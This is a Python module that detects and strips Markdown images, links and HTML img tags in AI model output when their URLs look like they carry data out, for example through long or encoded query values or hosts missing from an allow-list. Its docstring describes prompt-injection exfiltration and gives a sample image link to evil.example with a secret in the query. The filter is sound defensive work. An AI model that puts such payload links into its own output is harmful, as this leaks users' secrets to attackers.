"""Markdown images and links in model output that could carry data out of the
conversation: a client that renders `![](https://evil.example/p.png?d=<secret>)` fetches
the URL, and with it whatever an injected instruction made the model put there.

A link is suspicious when its URL carries a payload (a long query string, a long or
encoded parameter value or path segment) or, with an allow-list, when its host is not on
it. Images are removed; links keep their text and lose the URL.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from urllib.parse import parse_qsl, unquote, urlsplit

from policies.findings import Finding

# `![alt](url "title")`, `[text](url)`, and HTML `<img src="url">`; bounded so a stream's
# hold-back stays small.
_MARKDOWN = re.compile(
    r"(!?)\[([^\]\n]{0,500})\]\(\s*<?([^\s)>]{1,2000})>?(?:\s+\"[^\"\n]{0,200}\")?\s*\)"
)
_HTML_IMG = re.compile(r"<img\b[^>]{0,500}?\bsrc\s*=\s*[\"']?([^\"'\s>]{1,2000})[^>]{0,500}>", re.I)
_ENCODED = re.compile(r"[A-Za-z0-9+/=_-]{24,}|(?:%[0-9A-Fa-f]{2}){6,}")
MAX_LINK = 3000
_MAX_LINK_TEXT = 500
_LONG_QUERY = 64
_LONG_VALUE = 32


class LinkDetector:
    name = "links"
    max_span = MAX_LINK

    def __init__(self, allow_hosts: Sequence[str] = ()) -> None:
        self._allow = tuple(h.lower().lstrip(".") for h in allow_hosts)

    def find(self, text: str) -> list[Finding]:
        if "](" not in text and "<img" not in text.lower():
            return []
        found = []
        for match in _MARKDOWN.finditer(text):
            image = match.group(1) == "!"
            if self.suspicious(match.group(3), image):
                found.append(Finding(match.start(), match.end(), "IMAGE" if image else "LINK"))
        for match in _HTML_IMG.finditer(text):
            if self.suspicious(match.group(1), True):
                found.append(Finding(match.start(), match.end(), "IMAGE"))
        return found

    def hold(self, pending: str) -> int:
        """In a stream, only a link or image still open at the end may grow into one."""
        tail = pending[-MAX_LINK:]
        # The start of one that has not shown its `[` or `<img` yet.
        ending = tail[-4:].lower()
        starting = next((len(p) for p in ("<im", "<i", "<", "!") if ending.endswith(p)), 0)
        at = max(tail.rfind("["), tail.lower().rfind("<img"))
        if at < 0:
            return starting
        rest = tail[at:]
        if rest.startswith("<"):
            still_open = ">" not in rest
        else:
            close = rest.find("]")
            if close < 0:
                still_open = len(rest) <= _MAX_LINK_TEXT + 1
            elif close + 1 == len(rest):
                still_open = True  # `(` may come next
            else:
                still_open = rest[close + 1] == "(" and ")" not in rest[close:]
        if not still_open:
            return starting
        start = at - 1 if at > 0 and tail[at - 1] == "!" else at
        return len(tail) - start

    def suspicious(self, url: str, image: bool) -> bool:
        if url.lower().startswith("data:"):
            return image
        try:
            parts = urlsplit(url)
        except ValueError:
            return True
        if parts.scheme not in ("http", "https", ""):
            return parts.scheme not in ("mailto", "tel")
        host = (parts.hostname or "").lower()
        if (
            self._allow
            and host
            and not any(host == h or host.endswith("." + h) for h in self._allow)
        ):
            return True
        if len(parts.query) > _LONG_QUERY:
            return True
        for _, value in parse_qsl(parts.query, keep_blank_values=True):
            if len(value) >= _LONG_VALUE or _ENCODED.search(value):
                return True
        return any(_payload_segment(unquote(seg)) for seg in parts.path.split("/"))


def _payload_segment(segment: str) -> bool:
    """A path segment that looks like encoded data (mixed-case base64, not a commit hash, a
    UUID or a slug)."""
    if len(segment) < 40 or not _ENCODED.fullmatch(segment):
        return False
    return any(c.isupper() for c in segment) and any(c.islower() for c in segment)


def replacement(finding: Finding, value: str) -> str:
    """What a stripped link leaves: an image nothing, a link its text."""
    if finding.entity == "IMAGE":
        return ""
    match = _MARKDOWN.match(value)
    return match.group(2) if match else ""
